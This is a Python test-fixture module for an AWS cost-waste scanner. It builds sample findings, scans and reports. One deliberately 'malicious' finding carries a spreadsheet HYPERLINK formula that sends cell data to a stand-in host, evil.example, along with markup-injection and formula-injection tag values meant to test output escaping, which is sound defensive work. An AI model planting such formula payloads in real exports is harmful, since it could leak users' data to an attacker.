"""Builders of sample Findings, coverage units, Scans and Reports for tests (realistic AWS shapes).

Every builder takes keyword overrides, so a test states only what matters to it::

    make_finding("vol-1", amount=None)            # an unknown-cost finding
    make_report(sample_findings(), gate=...)       # the mixed report the renderer tests use
"""

from __future__ import annotations

import itertools
from datetime import UTC, datetime, timedelta
from typing import Any

from cloudwaste.model import (
    Confidence,
    CostBasis,
    CostKind,
    CoverageUnit,
    Finding,
    Money,
    Resource,
    Scan,
    ScanStatus,
    Severity,
    Status,
    UnitStatus,
    fingerprint,
)
from cloudwaste.report import GateResult, GateRule, Report, build_report

ACCOUNT = "123456789012"
REGION = "us-east-1"
NOW = datetime(2026, 12, 1, 7, 24, 55, tzinfo=UTC)
MALICIOUS_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click") [red]x[/red] | pipe'
MALICIOUS_TAG = "[bold red]x[/] [link=http://evil.example]y[/link]"

_ids = itertools.count(1)


def make_finding(
    resource_id: str = "vol-0a1b2c3d4e5f60001",
    *,
    check_id: str = "aws.ebs.unattached_volume",
    title: str = "Unattached EBS volume",
    account: str = ACCOUNT,
    region: str = REGION,
    resource_type: str = "ebs_volume",
    name: str | None = None,
    tags: dict[str, str] | None = None,
    amount: float | None = 8.0,
    currency: str = "USD",
    kind: CostKind = CostKind.COST,
    severity: Severity = Severity.MEDIUM,
    reason: str | None = None,
    status: Status = Status.OPEN,
    status_reason: str | None = None,
    evidence: dict[str, Any] | None = None,
) -> Finding:
    """One finding on one resource; the fingerprint is computed as the engine does."""
    basis = None if amount is None else CostBasis.BUNDLED_PRICE
    return Finding(
        fingerprint=fingerprint("aws", account, region, resource_id, check_id),
        check_id=check_id,
        title=title,
        severity=severity,
        provider="aws",
        account=account,
        region=region,
        resource=Resource(
            id=resource_id,
            arn=f"arn:aws:ec2:{region}:{account}:volume/{resource_id}",
            name=name,
            type=resource_type,
            tags=tags or {},
            created_at=NOW - timedelta(days=40),
        ),
        reason=reason or f"Volume {resource_id} (100 GiB gp3) has been unattached for 40 days.",
        evidence=evidence
        if evidence is not None
        else {"state": "available", "size_gib": 100, "age_days": 40},
        monthly_cost=Money(
            amount=amount,
            currency=currency,
            basis=basis,
            kind=kind,
            detail=None if amount is None else "100 GiB x $0.08/GiB-month (gp3, us-east-1)",
        ),
        confidence=Confidence.HIGH,
        recommendation=f"Snapshot and delete it: aws ec2 delete-volume --volume-id {resource_id}",
        status=status,
        status_reason=status_reason,
    )


def make_unit(
    region: str = REGION,
    *,
    scope: str = ACCOUNT,
    status: UnitStatus = UnitStatus.OK,
    error: str | None = None,
    findings: int = 0,
    api_calls: int = 12,
) -> CoverageUnit:
    """The coverage of one AWS account x region."""
    return CoverageUnit(
        provider="aws",
        scope=scope,
        region=region,
        status=status,
        error=error,
        api_calls=api_calls,
        duration_s=1.25,
        findings=findings,
    )


def make_scan(
    scan_id: str | None = None,
    *,
    started_at: datetime = NOW,
    status: ScanStatus = ScanStatus.RUNNING,
    finished_at: datetime | None = None,
    coverage: list[CoverageUnit] | None = None,
    providers: list[str] | None = None,
) -> Scan:
    """A scan with a unique, sortable id (like the engine's ``new_scan_id``)."""
    return Scan(
        id=scan_id or started_at.strftime("%Y%m%d-%H%M%S-") + f"{next(_ids):06x}",
        started_at=started_at,
        finished_at=finished_at,
        status=status,
        providers=providers if providers is not None else ["aws"],
        args={"regions": [REGION], "checks": ["aws.*"]},
        coverage=coverage or [],
    )


def sample_findings() -> list[Finding]:
    """A normal, an unknown-cost, a saving, an ignored, a malicious and a unicode finding."""
    return [
        make_finding("vol-0000000000000normal", amount=8.0, severity=Severity.MEDIUM, tags={"Env": "prod"}),
        make_finding(
            "vol-00000000000unknown",
            amount=None,
            severity=Severity.LOW,
            reason="Volume vol-00000000000unknown (io2) is unattached; io2 has no known price here.",
        ),
        make_finding(
            "vol-000000000000saving",
            check_id="aws.ebs.gp2_to_gp3",
            title="gp2 volume that would be cheaper as gp3",
            amount=2.0,
            kind=CostKind.SAVING,
            severity=Severity.LOW,
            reason="Volume vol-000000000000saving is gp2 (100 GiB); gp3 costs $2.00/month less.",
        ),
        make_finding(
            "vol-000000000000ignored",
            amount=50.0,
            status=Status.IGNORED,
            status_reason="DR cold standby",
            severity=Severity.HIGH,
        ),
        make_finding(
            "vol-0000000000000evil",
            name=MALICIOUS_NAME,
            tags={"=cmd": MALICIOUS_TAG, "Owner": "@attacker", "Note": "-2+3"},
            amount=4.5,
            reason="Volume [red]x[/red] | looks abandoned.\nSecond line.",
        ),
        make_finding(
            "vol-0000000000unicode",
            name="Données-€-日本語-🚀",
            tags={"Équipe": "Über café"},
            amount=1.25,
            region="eu-west-1",
            reason="Volume « Données » unattached for 40 days.",
        ),
    ]


def make_report(
    findings: list[Finding] | None = None,
    *,
    scan: Scan | None = None,
    gate: GateResult | None = None,
) -> Report:
    """A report as the engine builds it (totals from ``report.summarize``), complete scan by default."""
    if scan is None:
        scan = make_scan(
            "20261201-072455-3fa9c1",
            status=ScanStatus.PARTIAL,
            finished_at=NOW + timedelta(minutes=2),
            coverage=[
                make_unit(findings=5),
                make_unit("eu-west-1", findings=1),
                make_unit(
                    "ap-south-2",
                    status=UnitStatus.ERROR,
                    error="AccessDenied: not authorized to perform ec2:DescribeVolumes [bold]x[/bold]",
                ),
                make_unit("me-central-1", status=UnitStatus.SKIPPED, error="region not enabled"),
            ],
        )
    return build_report(scan, sample_findings() if findings is None else findings, gate)


def breached_gate(actual: float) -> GateResult:
    """A configured ``--fail-over 10`` gate that ``actual`` breached."""
    return GateResult(
        configured=True,
        breached=actual > 10,
        rules=[GateRule(flag="--fail-over", threshold=10, actual=actual, breached=actual > 10)],
    )
